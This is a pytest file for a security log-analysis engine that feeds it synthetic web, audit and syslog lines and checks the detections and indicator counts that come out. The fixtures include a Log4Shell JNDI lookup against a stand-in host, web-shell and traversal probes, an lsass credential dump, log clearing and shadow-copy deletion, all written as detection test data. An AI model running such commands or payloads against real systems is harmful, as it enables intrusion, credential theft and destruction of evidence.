"""The three kinds of demo logs, in lines of our own with the same make-up: what comes out of them was worked out by hand."""

from collections import Counter

import pytest

from tracelake.plans import engine


def web(ip, minute, request, status, sent, agent):
    return f'{ip} - - [03/May/2026:09:{minute:02d}:00 +0900] "{request} HTTP/1.1" {status} {sent} "-" "{agent}"'


SCANNED = [("/admin", 404, 300), ("/phpmyadmin", 404, 300), ("/.env", 404, 300), ("/backup", 404, 300), ("/config", 403, 300), ("/items?id=7", 500, 300), ("/a", 200, 1340), ("/b", 200, 1340)]
READ = ["/q?x=${jndi:ldap://n.example.com/z}", "/up/tool.php?cmd=ls", "/get?f=../../notes", "/page?n=<script>x</script>", "/fine"]
WEB = [
    *[web("198.51.100.23", k, f"GET {url}", status, sent, "Nikto/2.5") for k, (url, status, sent) in enumerate(SCANNED)],
    *[web("45.155.205.99", 10 + k, "POST /account/enter", 401 if k < 6 else 200, 225 if k < 6 else 227, "python-requests/2.31") for k in range(7)],
    *[web("185.220.101.4", 20 + k, f"GET {url}", 200, 360 if k < 4 else 364, "curl/8.4") for k, url in enumerate(READ)],
    web("203.0.113.45", 30, "GET /index.html", 200, 1000, "Somebot/1.0"),
    web("203.0.113.45", 31, "GET /missing.png", 404, 252, "Somebot/1.0"),
    web("10.0.0.12", 40, "GET /status", 200, 4096, "Mozilla/5.0"),
]
#: Requests, errors, bytes, denials, different addresses, score, class.
TRAFFIC = {
    "45.155.205.99": (7, 6, 1577, 6, 1, 0.77, "abnormal"),
    "198.51.100.23": (8, 6, 4480, 1, 8, 0.55, "abnormal"),
    "203.0.113.45": (2, 1, 1252, 0, 2, 0.4, "normal"),
    "185.220.101.4": (5, 0, 1804, 0, 5, 0.25, "normal"),
    "10.0.0.12": (1, 0, 4096, 0, 1, 0.0, "normal"),
}
AUDIT = [
    "timestamp,source_ip,user,event,status",
    *[f"2026-05-03 08:0{k}:00,192.0.2.10,clerk{k},desk opened,success" for k in range(6)],
    "2026-05-03 08:10:00,192.0.2.77,ops,powershell.exe -nop -enc SQBFAFgA,run,failed",
    "2026-05-03 08:11:00,192.0.2.77,ops,schtasks /create /tn upd,made,failed",
    "2026-05-03 08:12:00,192.0.2.77,ops,procdump of lsass.exe,seen,failed",
    "2026-05-03 08:13:00,192.0.2.77,ops,wevtutil cl Security,done,failed",
    "2026-05-03 08:14:00,192.0.2.77,ops,vssadmin delete shadows /all,done,failed",
]
SYSLOG = [
    "May  3 07:00:01 box1 cron[11]: nightly job from 192.0.2.31 ended",
    "May  3 07:00:02 box1 agent[12]: powershell -encodedcommand ZQBj from 192.0.2.31",
    "May  3 07:00:03 box1 agent[12]: psexec to 192.0.2.44 as service",
    "May  3 07:00:04 box2 agent[13]: sekurlsa read",
    "May  3 07:00:05 box2 agent[13]: history -c",
    "May  3 07:00:06 box2 agent[13]: a.docx.locked written",
    "May  3 07:00:07 box2 cron[11]: nightly job ended",
]


def analysed(spark, tmp_path, name, lines):
    (tmp_path / name).write_text("\n".join(lines) + "\n")
    return engine.analyze(spark, str(tmp_path / name))


def test_web_log(spark, tmp_path):
    a = analysed(spark, tmp_path, "web.log", WEB)
    assert a["entries"].count() == 23
    got = {r["source_ip"]: (r["requests"], r["errors"], r["bytes"], r["denied"], r["urls"], r["score"], r["class"]) for r in a["traffic"].collect()}
    assert got == TRAFFIC
    assert a["anomalies"].where("category = 'behavior-auth'").count() == 1
    assert {"T1595", "T1595.003", "T1190", "T1505.003", "T1083", "T1059.007"} <= {r["technique_id"] for r in a["techniques"].collect()}
    ips = {r["value"]: r["count"] for r in a["iocs"].where("type = 'ip'").collect()}
    assert ips == {"45.155.205.99": 7, "198.51.100.23": 8, "203.0.113.45": 2, "185.220.101.4": 5, "10.0.0.12": 1}


@pytest.mark.parametrize(
    ("name", "lines", "hits", "ips"),
    [
        ("audit.csv", AUDIT, ["cred-dump", "log-clear", "persistence-reg", "powershell-enc", "ransomware"], {"192.0.2.10": 6, "192.0.2.77": 5}),
        ("sys.txt", SYSLOG, ["cred-dump", "lateral", "log-clear", "powershell-enc", "ransomware"], {"192.0.2.31": 2, "192.0.2.44": 1}),
    ],
)
def test_other_logs(spark, tmp_path, name, lines, hits, ips):
    a = analysed(spark, tmp_path, name, lines)
    assert Counter(r["category"] for r in a["anomalies"].collect()) == Counter(hits)
    assert {r["value"]: r["count"] for r in a["iocs"].where("type = 'ip'").collect()} == ips
    assert a["entries"].count() == len(lines) - name.endswith(".csv") and a["ml_metrics"].first()["rows"] == len(lines) - name.endswith(".csv")
